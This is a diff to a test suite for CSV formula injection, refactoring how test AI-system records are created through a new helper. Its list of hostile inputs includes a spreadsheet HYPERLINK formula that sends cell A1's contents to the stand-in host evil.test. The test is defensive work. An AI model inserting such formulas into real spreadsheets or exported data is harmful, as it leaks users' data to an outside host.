@@ -5,6 +5,7 @@ import { call } from '../harness/api.js';
 import type { ApiUser } from '../harness/api.js';
 import { orgApiForSuite, createOrgWithUser } from '../harness/org-api.js';
 import { multipartFile } from '../harness/upload.js';
+import { createAiSystem } from '../harness/services.js';
 
 const HOSTILE = [
   '=HYPERLINK("http://evil.test/?"&A1,"Open")',
@@ -32,11 +33,9 @@ describe('CSV formula injection', () => {
     toId = to.org.id;
     target = to.user;
     for (const [index, text] of HOSTILE.entries()) {
-      await api.ctx.services.aiSystems.create(api.source.actor, api.orgId, {
+      await createAiSystem(api.ctx.services, api.source, api.orgId, {
         name: `${text} ${index}`,
         purpose: text,
-        lifecycleStage: 'deployment',
-        isInScope: true,
       });
     }
   });
